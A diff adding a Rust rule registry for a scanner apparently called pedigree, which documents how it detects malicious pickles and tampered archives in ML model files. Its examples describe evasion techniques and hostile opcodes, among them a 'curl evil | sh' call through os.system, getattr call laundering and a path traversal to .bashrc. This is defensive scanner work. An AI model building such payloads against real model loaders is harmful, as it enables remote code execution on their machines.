@@ -1,0 +1,413 @@
+//! The rule registry: every finding pedigree can report, with its documentation.
+//!
+//! Each rule has a stable id (`PDG` + number), a short kebab-case name, a default severity (a
+//! policy may override it), and docs in the shape "what it finds / why it matters / example /
+//! how to fix", with references. `pedigree rules` prints them and `docs/rules.md` is generated
+//! from them (see `render_markdown`).
+
+use crate::severity::Severity;
+
+#[derive(Debug, Clone, Copy, serde::Serialize)]
+pub struct Rule {
+    pub id: &'static str,
+    pub name: &'static str,
+    pub severity: Severity,
+    pub summary: &'static str,
+    pub what: &'static str,
+    pub why: &'static str,
+    pub example: &'static str,
+    pub fix: &'static str,
+    pub references: &'static [&'static str],
+}
+
+pub const PICKLE_DANGEROUS_GLOBAL: &str = "PDG101";
+pub const PICKLE_UNKNOWN_GLOBAL: &str = "PDG102";
+pub const PICKLE_MALFORMED: &str = "PDG103";
+pub const PICKLE_FRAME_DIVERGENCE: &str = "PDG104";
+pub const PICKLE_EXT_CODE: &str = "PDG105";
+pub const PICKLE_RESOURCE_EXHAUSTION: &str = "PDG106";
+pub const PICKLE_TRAILING_DATA: &str = "PDG107";
+pub const PICKLE_LAUNDERED_CALL: &str = "PDG108";
+pub const ZIP_BAD_CRC: &str = "PDG201";
+pub const ZIP_ENCRYPTION_FLAG: &str = "PDG202";
+pub const ZIP_NAME_MISMATCH: &str = "PDG203";
+pub const ZIP_DUPLICATE_NAME: &str = "PDG204";
+pub const ZIP_PREPENDED_DATA: &str = "PDG205";
+pub const ARCHIVE_LIMITS: &str = "PDG206";
+pub const ENCRYPTED_MEMBER: &str = "PDG207";
+pub const EXTENSION_MISMATCH: &str = "PDG208";
+pub const LEGACY_TORCH: &str = "PDG209";
+pub const UNSAFE_MEMBER_PATH: &str = "PDG210";
+pub const MALFORMED_CONTAINER: &str = "PDG211";
+
+const CWE502: &str = "CWE-502: Deserialization of Untrusted Data";
+
+pub static RULES: &[Rule] = &[
+    Rule {
+        id: PICKLE_DANGEROUS_GLOBAL,
+        name: "pickle-dangerous-global",
+        severity: Severity::Critical,
+        summary: "A pickle imports or calls a known-dangerous Python callable",
+        what: "The pickle stream names a global on the deny list: process execution (os, subprocess, pty), \
+               code execution (eval, exec, compile, runpy, code, marshal with FunctionType), the import \
+               machinery, network and file access, FFI (ctypes), installers (pip), call-laundering \
+               helpers (functools.partial, operator.attrgetter, getattr) or loaders that unpickle again \
+               (torch.storage._load_from_bytes, pickle.loads). Names are normalised the way CPython's \
+               find_class does (the _compat_pickle tables under protocols < 3) and dotted names are judged \
+               by what they finally reach (pathlib + os.system reaches os.system).",
+        why: "Loading the file (pickle.load, torch.load with weights_only=False, joblib.load, np.load with \
+              allow_pickle=True) imports the module and calls the function: arbitrary code runs on the \
+              machine that loads the model.",
+        example: "GLOBAL 'posix system' + REDUCE(('curl evil | sh',)) in a PyTorch checkpoint's data.pkl.",
+        fix: "Do not load the file. Obtain the model from a trusted source, prefer safetensors, and load \
+              PyTorch files with torch.load(weights_only=True).",
+        references: &[
+            CWE502,
+            "CVE-2025-1716 (pip.main gadget)",
+            "CVE-2025-10157 (children of a listed module)",
+            "CVE-2024-3660",
+        ],
+    },
+    Rule {
+        id: PICKLE_UNKNOWN_GLOBAL,
+        name: "pickle-unknown-global",
+        severity: Severity::Medium,
+        summary: "A pickle imports a global that is neither known-safe nor known-dangerous",
+        what: "The stream imports a module attribute that is on neither the allow list (tensor and storage \
+               rebuilders, numpy reconstruction, OrderedDict, scikit-learn estimator classes ...) nor the \
+               deny list.",
+        why: "Importing runs the module's top-level code and calling the attribute can do anything; a \
+              deny list can never be complete (\"The Art of Hide and Seek\" counts 133 gadgets). Unknown \
+              names deserve a human look.",
+        example: "GLOBAL '__main__ MyModel' from a whole-module torch.save, or a third-party helper.",
+        fix: "If the global is expected and trusted, add it to `allow` in pedigree.toml; otherwise treat the \
+              file as untrusted. Add confirmed-dangerous names to `deny`.",
+        references: &[CWE502],
+    },
+    Rule {
+        id: PICKLE_MALFORMED,
+        name: "pickle-malformed",
+        severity: Severity::Medium,
+        summary: "The pickle stream is malformed or truncated",
+        what: "The unpickler would raise part-way: an invalid opcode, a bad argument, a stack or mark error, \
+               a missing memo entry, or the end of the data before STOP.",
+        why: "CPython runs every opcode before the error, so calls made before the break have already \
+              happened; a payload followed by garbage (nullifAI) makes scanners that stop at the first \
+              error call the file clean. pedigree reports what came before the break and resynchronises \
+              after it.",
+        example: "GLOBAL os system, REDUCE, then random bytes instead of STOP.",
+        fix: "Treat the file as corrupt or hostile; a legitimate serializer never writes it.",
+        references: &[CWE502, "nullifAI (ReversingLabs, 2025)"],
+    },
+    Rule {
+        id: PICKLE_FRAME_DIVERGENCE,
+        name: "pickle-frame-divergence",
+        severity: Severity::High,
+        summary: "FRAME handling makes different unpicklers read different opcodes",
+        what: "A read straddles the end of a protocol-4 FRAME, a FRAME starts before the previous one is \
+               used up, or a FRAME runs past the data. CPython's C unpickler over a file object drops the \
+               rest of a frame on a straddling read, while pickletools and pickle.loads read straight \
+               through: the bytes decode to different programs.",
+        why: "A scanner that reads like pickletools sees a harmless stream while torch.load (which reads \
+              data.pkl through BytesIO) runs hidden opcodes.",
+        example: "A 128 KiB frame whose last bytes are the start of a string argument that hides GLOBAL \
+                  builtins print.",
+        fix: "Do not load the file; no serializer writes frames that straddle arguments.",
+        references: &[CWE502, "CPython gh-154848"],
+    },
+    Rule {
+        id: PICKLE_EXT_CODE,
+        name: "pickle-ext-code",
+        severity: Severity::Medium,
+        summary: "The pickle uses an EXT1/EXT2/EXT4 extension code",
+        what: "EXT opcodes import a global through copyreg's extension registry, which is empty by default \
+               but can be filled by code the host ran earlier.",
+        why: "The global it names cannot be known statically; no ML serializer emits EXT codes.",
+        example: "EXT1 0xC8 after a host called copyreg.add_extension('os', 'system', 200).",
+        fix: "Treat as untrusted.",
+        references: &[CWE502],
+    },
+    Rule {
+        id: PICKLE_RESOURCE_EXHAUSTION,
+        name: "pickle-resource-exhaustion",
+        severity: Severity::High,
+        summary: "The pickle would exhaust memory or time in the loader, or hit a scan limit",
+        what: "A memo index so large that CPython's dense memo allocates gigabytes (LONG_BINPUT 0xFFFFFFFF), \
+               a declared length far beyond the data, or a stream that exceeds pedigree's limits (opcodes, \
+               stack, memo, nesting).",
+        why: "A denial of service on any service that loads models; and content past a limit is not scanned.",
+        example: "LONG_BINPUT 4294967295 asks CPython for about 64 GiB.",
+        fix: "Do not load the file.",
+        references: &["CWE-400: Uncontrolled Resource Consumption"],
+    },
+    Rule {
+        id: PICKLE_TRAILING_DATA,
+        name: "pickle-trailing-data",
+        severity: Severity::Low,
+        summary: "Data follows the pickle's STOP",
+        what: "Bytes remain after the last STOP: another pickle (stacked pickles, which repeated \
+               pickle.load calls run) or unexplained data.",
+        why: "Some loaders read several pickles from one file; scanners that stop at the first STOP miss \
+              what follows.",
+        example: "A benign pickle followed by a second pickle that calls os.system.",
+        fix: "Inspect what follows (pedigree scans it); legitimate files rarely carry it.",
+        references: &[CWE502],
+    },
+    Rule {
+        id: PICKLE_LAUNDERED_CALL,
+        name: "pickle-laundered-call",
+        severity: Severity::High,
+        summary: "A pickle calls something that is not a plain global",
+        what: "REDUCE, NEWOBJ, OBJ or INST calls a value that was itself produced by a call or an attribute \
+               lookup (for example getattr(module, 'system')), so the function finally called is not \
+               visible as a global.",
+        why: "This is how payloads hide the dangerous name from deny lists.",
+        example: "GLOBAL builtins getattr; REDUCE((GLOBAL os, 'system')); REDUCE(('id',)).",
+        fix: "Do not load the file.",
+        references: &[CWE502],
+    },
+    Rule {
+        id: ZIP_BAD_CRC,
+        name: "zip-bad-crc",
+        severity: Severity::Medium,
+        summary: "A zip member's data does not match its CRC-32",
+        what: "The stored CRC-32 of a member differs from its data.",
+        why: "Python's zipfile raises on it, so zipfile-based scanners fail, while PyTorch's reader never \
+              checks CRCs and loads the file (CVE-2025-10156).",
+        example: "A torch checkpoint whose data.pkl was edited after saving.",
+        fix: "Treat the file as tampered.",
+        references: &["CVE-2025-10156"],
+    },
+    Rule {
+        id: ZIP_ENCRYPTION_FLAG,
+        name: "zip-encryption-flag",
+        severity: Severity::Medium,
+        summary: "A zip member has encryption/patch flag bits set",
+        what: "General-purpose flag bits 0x1, 0x20 or 0x40 are set in the local or central header.",
+        why: "Python's zipfile refuses such members, so scanners built on it skip the file; bits only in the \
+              local header are ignored by both Python and torch, which still load the data \
+              (CVE-2025-1945).",
+        example: "data.pkl with flag 0x1 in its local header and plain stored data.",
+        fix: "Treat the file as tampered.",
+        references: &["CVE-2025-1945"],
+    },
+    Rule {
+        id: ZIP_NAME_MISMATCH,
+        name: "zip-name-mismatch",
+        severity: Severity::Medium,
+        summary: "A zip member's local header names a different file than the central directory",
+        what: "The local file header and the central-directory entry disagree about the member name.",
+        why: "Python's zipfile raises, while torch loads using the central-directory name (CVE-2025-1944).",
+        example: "Central directory says archive/data.pkl, local header says archive/data.pkx.",
+        fix: "Treat the file as tampered.",
+        references: &["CVE-2025-1944"],
+    },
+    Rule {
+        id: ZIP_DUPLICATE_NAME,
+        name: "zip-duplicate-member",
+        severity: Severity::High,
+        summary: "Two zip members have the same name",
+        what: "The central directory lists the same name twice.",
+        why: "PyTorch's reader takes the first entry and Python's zipfile the last: a scanner and a loader \
+              can read different data.pkl files. pedigree scans both.",
+        example: "A benign archive/data.pkl followed by a malicious one.",
+        fix: "Treat the file as tampered.",
+        references: &[CWE502],
+    },
+    Rule {
+        id: ZIP_PREPENDED_DATA,
+        name: "zip-prepended-data",
+        severity: Severity::Medium,
+        summary: "Bytes precede the zip archive",
+        what: "The archive does not start at offset 0.",
+        why: "Python's zipfile tolerates it, torch does not: the file can be a different thing to different \
+              readers (a polyglot).",
+        example: "A pickle followed by a zip archive.",
+        fix: "Treat the file as tampered.",
+        references: &[],
+    },
+    Rule {
+        id: ARCHIVE_LIMITS,
+        name: "archive-limits",
+        severity: Severity::High,
+        summary: "An archive exceeds decompression or size limits",
+        what: "A member or stream decompresses past the size or ratio limit, the archive has more members \
+               than the limit, or archives nest deeper than the limit. Reading stopped there.",
+        why: "Decompression bombs exhaust disk and memory; and what lies past the limit was not scanned.",
+        example: "A 100 KB deflate member that expands to 64 MiB of zeros.",
+        fix: "Do not extract the archive; raise the limits only for trusted input.",
+        references: &["CWE-409: Improper Handling of Highly Compressed Data"],
+    },
+    Rule {
+        id: ENCRYPTED_MEMBER,
+        name: "encrypted-member",
+        severity: Severity::Medium,
+        summary: "An archive member is encrypted and cannot be scanned",
+        what: "The member's data is encrypted.",
+        why: "Its content is unknown to the scanner.",
+        example: "A password-protected 7z holding a pickle.",
+        fix: "Decrypt it and scan the content, or reject it.",
+        references: &[],
+    },
+    Rule {
+        id: EXTENSION_MISMATCH,
+        name: "extension-mismatch",
+        severity: Severity::Medium,
+        summary: "The file extension promises one format and the bytes are another",
+        what: "The content was sniffed as a different format than its extension claims.",
+        why: "Tools that dispatch on the name skip the real content (CVE-2025-1889); a .safetensors that is \
+              a zip of pickles is a lie.",
+        example: "model.npy that is a plain pickle.",
+        fix: "Rename the file after its real format, or reject it.",
+        references: &["CVE-2025-1889", "CVE-2025-10155"],
+    },
+    Rule {
+        id: LEGACY_TORCH,
+        name: "legacy-torch-format",
+        severity: Severity::Info,
+        summary: "Legacy (pre-1.6) PyTorch serialization",
+        what: "The file uses the legacy stream or tar layout of torch.save.",
+        why: "Its magic number is itself unpickled before it is checked, and weights_only refuses the tar \
+              layout; it is worth converting.",
+        example: "torch.save(obj, f, _use_new_zipfile_serialization=False).",
+        fix: "Re-save with a current torch, or convert to safetensors.",
+        references: &[],
+    },
+    Rule {
+        id: UNSAFE_MEMBER_PATH,
+        name: "unsafe-member-path",
+        severity: Severity::High,
+        summary: "An archive member's path escapes the extraction directory or is a link",
+        what: "A member path is absolute, climbs out with '..', or is a symbolic link.",
+        why: "Extracting it writes outside the target directory (path traversal).",
+        example: "../../home/user/.bashrc inside a tar.",
+        fix: "Do not extract the archive.",
+        references: &["CWE-22: Path Traversal"],
+    },
+    Rule {
+        id: MALFORMED_CONTAINER,
+        name: "malformed-container",
+        severity: Severity::Medium,
+        summary: "A container (zip, tar, npy, legacy torch ...) is malformed",
+        what: "The container's structure is broken; parts of it could not be read.",
+        why: "Loaders and scanners may disagree about broken structures; what could not be read was not \
+              scanned.",
+        example: "A zip whose central directory points past the end of the file.",
+        fix: "Treat the file as corrupt or hostile.",
+        references: &[],
+    },
+];
+
+/// Looks a rule up by id (case-insensitive) or by name.
+pub fn find(id_or_name: &str) -> Option<&'static Rule> {
+    RULES
+        .iter()
+        .find(|r| r.id.eq_ignore_ascii_case(id_or_name) || r.name == id_or_name)
+}
+
+/// The rule with this id; the ids used in code are constants of this module, so a miss is a bug
+/// caught by the registry test below.
+pub fn get(id: &str) -> &'static Rule {
+    find(id).unwrap_or(&RULES[0])
+}
+
+/// The rules reference as Markdown (generated into docs/rules.md).
+pub fn render_markdown() -> String {
+    let mut s = String::from(
+        "# pedigree rules\n\nGenerated by `pedigree rules --markdown`; do not edit by hand.\n\n| id | name | severity | summary |\n|---|---|---|---|\n",
+    );
+    for r in RULES {
+        s.push_str(&format!(
+            "| [{}](#{}) | {} | {} | {} |\n",
+            r.id,
+            r.id.to_ascii_lowercase(),
+            r.name,
+            r.severity,
+            r.summary
+        ));
+    }
+    for r in RULES {
+        s.push('\n');
+        s.push_str(&render_one(r, true));
+    }
+    s
+}
+
+/// One rule's documentation, as plain text or Markdown.
+pub fn render_one(r: &Rule, markdown: bool) -> String {
+    let h = |t: &str| {
+        if markdown {
+            format!("**{t}.** ")
+        } else {
+            format!("{t}:\n  ")
+        }
+    };
+    let mut s = if markdown {
+        format!("## {}\n\n`{}` · severity **{}**\n\n", r.id, r.name, r.severity)
+    } else {
+        format!("{} {} (severity: {})\n{}\n\n", r.id, r.name, r.severity, r.summary)
+    };
+    let squash = |t: &str| t.split_whitespace().collect::<Vec<_>>().join(" ");
+    for (title, body) in [
+        ("What it finds", r.what),
+        ("Why it matters", r.why),
+        ("Example", r.example),
+        ("How to fix", r.fix),
+    ] {
+        s.push_str(&h(title));
+        s.push_str(&squash(body));
+        s.push_str("\n\n");
+    }
+    if !r.references.is_empty() {
+        s.push_str(&h("References"));
+        s.push_str(&r.references.join("; "));
+        s.push('\n');
+    }
+    s
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn ids_are_unique_and_well_formed() {
+        let mut seen = std::collections::HashSet::new();
+        for r in RULES {
+            assert!(r.id.starts_with("PDG") && r.id[3..].parse::<u32>().is_ok(), "{}", r.id);
+            assert!(seen.insert(r.id), "duplicate id {}", r.id);
+            assert!(!r.what.is_empty() && !r.why.is_empty() && !r.fix.is_empty());
+        }
+        for id in [
+            PICKLE_DANGEROUS_GLOBAL,
+            PICKLE_UNKNOWN_GLOBAL,
+            PICKLE_MALFORMED,
+            PICKLE_FRAME_DIVERGENCE,
+            PICKLE_EXT_CODE,
+            PICKLE_RESOURCE_EXHAUSTION,
+            PICKLE_TRAILING_DATA,
+            PICKLE_LAUNDERED_CALL,
+            ZIP_BAD_CRC,
+            ZIP_ENCRYPTION_FLAG,
+            ZIP_NAME_MISMATCH,
+            ZIP_DUPLICATE_NAME,
+            ZIP_PREPENDED_DATA,
+            ARCHIVE_LIMITS,
+            ENCRYPTED_MEMBER,
+            EXTENSION_MISMATCH,
+            LEGACY_TORCH,
+            UNSAFE_MEMBER_PATH,
+            MALFORMED_CONTAINER,
+        ] {
+            assert_eq!(get(id).id, id);
+        }
+    }
+
+    #[test]
+    fn markdown_lists_every_rule() {
+        let md = render_markdown();
+        for r in RULES {
+            assert!(md.contains(&format!("## {}", r.id)));
+        }
+    }
+}
